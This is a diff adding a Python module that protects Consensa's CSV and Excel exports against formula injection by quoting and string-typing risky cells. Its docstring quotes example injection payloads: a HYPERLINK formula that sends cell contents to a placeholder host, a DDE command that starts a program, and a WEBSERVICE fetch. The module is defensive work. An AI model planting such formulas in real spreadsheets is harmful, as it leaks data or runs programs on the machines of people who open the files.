@@ -1,0 +1,187 @@
+"""Spreadsheet safety: what Consensa writes stays data in every workbook and CSV.
+
+Transcript text, a theme name a judge typed, a case id taken from a file name: any
+of them may begin with ``=``, ``+``, ``-`` or ``@``, which Excel, LibreOffice and
+Google Sheets read as the start of a formula (``=HYPERLINK("http://x?d="&E2,"x")``
+sends the cells beside it away, ``=cmd|' /C calc'!A0`` starts a program on old
+Excel, ``=WEBSERVICE(...)`` fetches a URL). Every workbook and every CSV meant for
+a spreadsheet that Consensa writes goes through this module:
+
+* :func:`set_cell` and :func:`append_row` write a ``str`` as a string cell (data
+  type ``"s"``) whatever it starts with, never as a formula; one that looks like a
+  formula also gets Excel's quote prefix, so it stays text when a judge edits the
+  cell. They drop the control characters an .xlsx cannot hold (:func:`xml_safe`),
+  so no writer fails with openpyxl's ``IllegalCharacterError``.
+* :func:`to_csv` (:func:`neutralise_frame`) puts a single quote before a text cell
+  that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's
+  advice against CSV injection). Numbers are left alone: numeric columns are not
+  touched, and neither is text that is exactly a decimal number (``-1``), which a
+  spreadsheet reads as that number and never as a formula.
+* :func:`restore_frame` (:func:`restore`) undoes the quote exactly. Consensa reads
+  its own CSVs back through it, so a theme name or a quote is the same text after
+  the round trip. Text that already begins with quotes before such a character
+  gets one more quote when written, so the undoing is never ambiguous.
+
+The exact text stays exact where Consensa keeps it (segments.parquet, the review
+store, codebook.yaml): only the spreadsheet files carry the quote.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable
+from functools import cache
+from typing import Any
+
+import numpy as np
+import pandas as pd
+
+#: First characters that make a spreadsheet read a cell as a formula (or, for tab and
+#: carriage return, that hide one behind white space when the file is imported).
+TRIGGERS = frozenset("=+-@\t\r")
+
+_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
+_QUOTED = re.compile(r"'+[=+\-@\t\r]")
+_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+_FIRST = TRIGGERS | {"'"}          # what a changed cell starts with, either way
+#: form feed and vertical tab separate words (page and line breaks): they become spaces
+_AS_SPACE = frozenset("\x0b\x0c")
+
+
+# --- text -----------------------------------------------------------------------
+
+def neutralise(text: str) -> str:
+    """``text`` as a CSV cell: a leading ``'`` when it would start a formula."""
+    if _NEEDS_QUOTE.match(text) and not _NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def restore(text: str) -> str:
+    """The inverse of :func:`neutralise`: ``restore(neutralise(t)) == t`` for every str."""
+    return text[1:] if _QUOTED.match(text) else text
+
+
+def xml_safe(text: str) -> str:
+    """``text`` without the control characters an .xlsx cannot hold.
+
+    Form feed and vertical tab become spaces (they separate words); the others
+    (NUL, escape, ...) are removed. Tab, newline and carriage return are kept.
+    Ingest already normalises transcripts this way; this guard covers any other
+    text (names, comments, paths) a writer is given.
+    """
+    return _illegal().sub(lambda m: " " if m.group() in _AS_SPACE else "", text)
+
+
+@cache
+def _illegal() -> re.Pattern[str]:
+    """openpyxl's own pattern of what it refuses (imported late: writing CSVs needs none)."""
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    return ILLEGAL_CHARACTERS_RE
+
+
+# --- CSV --------------------------------------------------------------------------
+
+def _text_positions(df: pd.DataFrame) -> list[int]:
+    """Positions of the columns that may hold text (object, string, categorical)."""
+    out = []
+    for i, dtype in enumerate(df.dtypes):
+        if (pd.api.types.is_object_dtype(dtype) or isinstance(dtype, pd.StringDtype)
+                or isinstance(dtype, pd.CategoricalDtype)):
+            out.append(i)
+    return out
+
+
+def _map_frame(df: pd.DataFrame, fn) -> pd.DataFrame:
+    """``fn`` on every str cell, column name and index label (``fn`` changes only text
+    that starts with a quote or a trigger, so the other cells are skipped cheaply)."""
+    out = df.copy()
+    for i in _text_positions(out):
+        col = out.iloc[:, i]
+        if isinstance(col.dtype, pd.CategoricalDtype):
+            col = col.astype(object)
+        values = col.tolist()
+        hits = [j for j, v in enumerate(values) if isinstance(v, str) and v[:1] in _FIRST]
+        if not hits:
+            continue
+        for j in hits:
+            values[j] = fn(values[j])
+        keep = col.dtype if isinstance(col.dtype, pd.StringDtype) else object
+        out.isetitem(i, pd.Series(values, index=out.index, dtype=keep))
+    if not isinstance(out.columns, pd.MultiIndex):
+        out.columns = [fn(c) if isinstance(c, str) else c for c in out.columns]
+    if not isinstance(out.index, pd.MultiIndex) and (
+            pd.api.types.is_object_dtype(out.index.dtype)
+            or isinstance(out.index.dtype, pd.StringDtype)):
+        name = out.index.name
+        out.index = pd.Index([fn(v) if isinstance(v, str) else v for v in out.index],
+                             dtype=object, name=fn(name) if isinstance(name, str) else name)
+    return out
+
+
+def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``df`` whose text cells, column names and index are :func:`neutralise`\\ d."""
+    return _map_frame(df, neutralise)
+
+
+def restore_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``df`` (read from a CSV Consensa wrote) with its text :func:`restore`\\ d."""
+    return _map_frame(df, restore)
+
+
+def to_csv(df: pd.DataFrame, path: Any = None, **kwargs: Any) -> str | None:
+    """``df.to_csv(path, **kwargs)`` with every text cell neutralised first."""
+    return neutralise_frame(df).to_csv(path, **kwargs)
+
+
+# --- workbooks ----------------------------------------------------------------------
+
+def cell_value(value: Any) -> Any:
+    """``value`` as openpyxl can store it: numpy scalars as Python ones, NaN as an empty
+    cell, text without the characters an .xlsx cannot hold."""
+    if isinstance(value, str):
+        return xml_safe(value)
+    if isinstance(value, np.bool_):
+        return bool(value)
+    if isinstance(value, np.integer):
+        return int(value)
+    if isinstance(value, (float, np.floating)):
+        return None if np.isnan(value) else float(value)
+    if value is pd.NA or value is pd.NaT:
+        return None
+    return value
+
+
+def _as_text(cell) -> None:
+    """Make a cell holding a str a string cell, never a formula."""
+    if isinstance(cell.value, str):
+        cell.data_type = "s"
+        if cell.value[:1] in TRIGGERS:
+            cell.quotePrefix = True      # Excel keeps it text when the cell is edited
+
+
+def set_cell(cell, value: Any):
+    """Write ``value`` into an openpyxl ``cell``; a str is always a string cell."""
+    cell.value = cell_value(value)
+    _as_text(cell)
+    return cell
+
+
+def append_row(ws, values: Iterable[Any]) -> int:
+    """``ws.append(values)`` with :func:`set_cell`'s guarantees; returns the row number.
+
+    The cells are made and typed before they are appended (openpyxl's ``append``
+    takes ``Cell`` objects), so no row is looked up afterwards: asking for
+    ``ws.max_row`` after every row scans the whole sheet, which made a large
+    workbook quadratic to write.
+    """
+    from openpyxl.cell.cell import Cell
+
+    cells = []
+    for value in values:
+        cell = Cell(ws, value=cell_value(value))
+        _as_text(cell)
+        cells.append(cell)
+    ws.append(cells)
+    return cells[0].row if cells else ws.max_row
